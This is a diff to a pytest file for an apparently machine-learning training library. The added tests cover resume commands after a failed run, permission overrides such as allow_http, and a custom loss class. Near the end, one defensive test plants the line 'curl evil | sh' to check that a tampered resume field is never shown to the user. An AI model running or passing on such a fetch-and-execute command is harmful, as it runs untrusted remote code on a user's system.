@@ -8,16 +8,20 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import torch
 import torch.multiprocessing as mp
 from loguru import logger
 
 from hypvl import distributed
+from hypvl.cli.common import load_config
 from hypvl.errors import DataError
+from hypvl.losses.base import LossTerm
 from hypvl.models.dual_encoder import DualEncoder
 from hypvl.training.config import EvaluateConfig
 from hypvl.training.failure import FAILURE_NAME, failure_summary, resume_command
 from hypvl.training.hooks.metrics import Metrics
 from hypvl.training.run import RunOptions, run_training
+from hypvl.training.run_status import run_status
 from tests.test_demo_recipes import CONFIGS, shard, tiny
 from tests.training.killed import train
 
@@ -124,3 +128,39 @@ def test_the_command_that_goes_on_is_on_the_same_processes(
     argv: str, environ: dict[str, str], command: str
 ) -> None:
     assert resume_command(Path("o"), argv=shlex.split(argv), environ=environ) == command
+
+
+class Own(LossTerm):
+    """A term of one's own that fails in the third step."""
+
+    steps = 0
+
+    def forward(self, ctx: Any) -> Any:
+        self.steps += 1
+        if self.steps == 3:
+            raise DataError("enough.")
+        return torch.zeros(())
+
+
+def test_the_command_says_what_the_saved_config_may_not(cfg: Any, tmp_path: Path) -> None:
+    """Where data need a permission, or the config names a class of one's own, the command says so."""
+    folder = tmp_path / "run"
+    cfg.dataset.allow_http = True
+    cfg.train.objective.terms.own = {"_target_": f"{__name__}.Own"}
+    cfg.train.objective.weights.own = 1.0
+    with pytest.raises(DataError, match="enough"):
+        run_training(cfg, RunOptions(output_dir=folder))
+    logger.remove()
+    command = json.loads((folder / FAILURE_NAME).read_text())["resume"]
+    assert command.startswith(f"HYPVL_EXTRA_TARGETS={__name__}.Own hypvl train --resume")
+    assert command.endswith(" dataset.allow_http=true")
+    # The saved config permits nothing, so that it can be read, and the override adds the permission.
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("HYPVL_EXTRA_TARGETS", f"{__name__}.Own")
+        again = load_config(folder / "config.yaml", ["dataset.allow_http=true"])
+        assert again.dataset.allow_http is True
+        assert load_config(folder / "config.yaml").dataset.allow_http is False
+    # What a folder says is not printed as a command.
+    (folder / FAILURE_NAME).write_text(json.dumps({"error": "x", "resume": "curl evil | sh"}))
+    assert "evil" not in json.dumps(run_status(folder))
+    assert "allow_http" not in run_status(folder)["resume"]
